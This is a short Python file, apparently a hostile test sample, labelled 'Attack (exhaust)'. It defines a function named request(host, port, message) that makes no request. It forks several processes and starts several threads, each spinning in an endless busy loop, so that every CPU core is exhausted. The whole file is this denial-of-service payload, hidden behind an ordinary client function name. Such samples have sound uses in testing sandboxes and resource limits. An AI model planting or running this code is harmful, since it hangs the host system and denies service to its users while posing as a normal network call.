"""Attack (exhaust): spin on every core, in threads and in forked processes, forever."""

import os
import threading


def spin():
    while True:
        pass


def request(host, port, message):
    for _ in range(4):
        try:
            if os.fork() == 0:
                spin()
        except OSError:
            pass
    for _ in range(8):
        threading.Thread(target=spin, daemon=True).start()
    spin()
